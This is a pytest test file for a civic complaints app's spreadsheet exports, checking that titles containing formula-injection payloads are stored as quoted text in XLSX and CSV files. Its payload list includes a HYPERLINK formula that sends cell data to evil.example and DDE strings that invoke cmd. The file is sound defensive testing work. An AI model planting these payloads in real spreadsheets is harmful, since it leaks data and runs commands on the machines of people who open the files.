"""Citizen text in an export is text: each OWASP payload reads back as a string cell."""

import csv
import io

import pytest
from openpyxl import load_workbook

from cerdas.complaints.models import Complaint
from cerdas.lib.spreadsheets import neutralise

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&C2,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(payload: str) -> str:
    """XML turns a carriage return into a line feed when the file is read."""
    return payload.replace("\r", "\n")


def _cells(content: bytes, sheet=None):
    book = load_workbook(io.BytesIO(content))
    ws = book[sheet] if sheet else book.active
    return [c for row in ws.iter_rows() for c in row]


def test_neutralise_leaves_plain_values_alone():
    assert neutralise("Jalan rusak") == "Jalan rusak"
    assert neutralise(-3) == -3 and neutralise(1.5) == 1.5 and neutralise("") == ""
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_complaint_exports_write_formulas_as_text(client, city, submit, payload):
    case = submit()
    Complaint.objects.filter(pk=case.pk).update(title=payload)
    client.force_login(city.operator)
    cells = [c for c in _cells(client.get("/cc/antrian/ekspor.xlsx").content, "Pengaduan")]
    titles = [c for c in cells if isinstance(c.value, str) and read_back(payload) in c.value]
    assert len(titles) == 1
    assert titles[0].data_type == "s" and titles[0].value == read_back(payload)
    assert titles[0].quotePrefix  # Excel shows it as text, never evaluates it
    assert not any(c.data_type == "f" for c in cells)
    text = client.get("/cc/antrian/ekspor.csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["judul"] == "'" + payload
